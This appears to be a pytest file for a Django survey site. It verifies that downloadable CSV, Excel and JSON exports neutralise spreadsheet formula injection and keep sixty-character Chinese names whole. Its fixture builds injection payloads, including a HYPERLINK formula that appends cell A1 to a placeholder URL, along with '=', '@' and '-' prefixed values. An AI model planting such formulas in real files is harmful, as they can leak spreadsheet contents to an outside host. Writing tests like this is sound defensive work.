"""Every file that the site hands out, for a survey whose texts are as bad as can be: no spreadsheet computes them, and
Chinese and long names arrive whole.
"""

import csv
import io
import json
from collections.abc import Iterator
from itertools import cycle
from typing import Any

import pytest
from django.db import transaction
from django.test import Client
from openpyxl import load_workbook
from pytest import MonkeyPatch
from pytest_django import DjangoDbBlocker

from surveys.files.indicators import IndicatorRow
from surveys.files.writing import COMPUTED
from tests.scoring import factories as score
from tests.support.doors import ADDRESSES, DOORS
from tests.support.everybody import Estate, address, everybody
from tests.surveys import factories as make

pytestmark = [pytest.mark.django_db, pytest.mark.one_database]

STARTS = "=+-@＝＋－＠"
LENGTH = 60


def evil(start: str, tail: str) -> str:
    """A name of sixty characters that a spreadsheet would like to compute."""
    text = f'{start}HYPERLINK("http://x/?"&A1,"算力{tail}")'
    return text + "长" * (LENGTH - len(text))


def evil_rows(*_tree: Any) -> list[IndicatorRow]:
    starts = cycle(STARTS)
    return [
        IndicatorRow(row.row, row.code, row.parent, {tag: evil(next(starts), row.code) for tag in row.names})
        for row in PLAIN_ROWS()
    ]


PLAIN_ROWS = make.rows


File = tuple[str, str, bytes]
"""Address, content type, content."""


@pytest.fixture(scope="module")
def handed_out(django_db_setup: None, django_db_blocker: DjangoDbBlocker) -> Iterator[list[File]]:
    """Everything that comes as a file, fetched once."""
    data = score.DATA.replace(b"North", "=北京+1".encode()).replace(b"South", b"@South").replace(b"East", b"-East")
    with django_db_blocker.unblock(), transaction.atomic(), MonkeyPatch.context() as patch:
        patch.setattr(make, "rows", evil_rows)
        patch.setattr(score, "DATA", data)
        patch.setattr(score.data_set, "__defaults__", (data,))
        everyone = everybody()
        yield list(files(everyone.here, everyone.client("owner")))
        transaction.set_rollback(True)


def files(estate: Estate, client: Client) -> Iterator[File]:
    for name in ADDRESSES:
        door = DOORS.get(name)
        if door is None or not door.get:
            continue
        for args in door.args(estate):
            path = address(name, args)
            answer = client.get(path, headers={"accept-language": "zh-hans"})
            if answer.status_code == 200 and "attachment" in answer.headers.get("Content-Disposition", ""):
                content = b"".join(answer) if answer.streaming else answer.content
                yield path, answer.headers["Content-Type"].split(";")[0], content


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_no_file_of_the_site_holds_a_formula_of_somebody_elses(handed_out: list[File]) -> None:
    seen: dict[str, int] = {}
    chinese = 0
    for path, kind, content in handed_out:
        if kind == "text/csv":
            texts = content.decode("utf-8-sig")
            for row in csv.reader(io.StringIO(texts)):
                wrong = [cell for cell in row if cell.startswith(COMPUTED) and not is_number(cell)]
                assert not wrong, (path, wrong)
        elif kind.endswith("spreadsheetml.sheet"):
            texts = _texts_of_workbook(path, content)
        elif kind == "application/json":
            texts = json.dumps(json.loads(content), ensure_ascii=False)
        else:
            continue
        seen[kind] = seen.get(kind, 0) + 1
        chinese += "算力" in texts
    assert seen.keys() >= {"text/csv", "application/json"}
    assert len(seen) == 3
    assert sum(seen.values()) >= 12
    assert chinese >= 10


def _texts_of_workbook(path: str, content: bytes) -> str:
    """Formulas are ours alone: none holds what somebody typed."""
    texts: list[str] = []
    for sheet in load_workbook(io.BytesIO(content)):
        for cell in (cell for row in sheet.iter_rows() for cell in row if cell.value is not None):
            value = str(cell.value)
            if cell.data_type == "f":
                assert "HYPERLINK" not in value.upper(), (path, sheet.title, cell.coordinate)
                assert "算力" not in value
            elif value.startswith(tuple(STARTS)) and cell.data_type == "s":
                assert cell.quotePrefix, (path, sheet.title, cell.coordinate, value)
            texts.append(value)
    return "\n".join(texts)


def test_names_of_sixty_characters_arrive_whole(handed_out: list[File]) -> None:
    names = [evil_rows()[0].names["zh-hans"], evil_rows()[-1].names["zh-hans"]]
    assert {len(name) for name in names} == {LENGTH}
    whole = 0
    for _path, kind, content in handed_out:
        texts = content.decode("utf-8-sig", errors="ignore") if kind in ("text/csv", "application/json") else ""
        plain = texts.replace('""', '"').replace('\\"', '"')
        whole += any(name in plain for name in names)
    assert whole >= 4
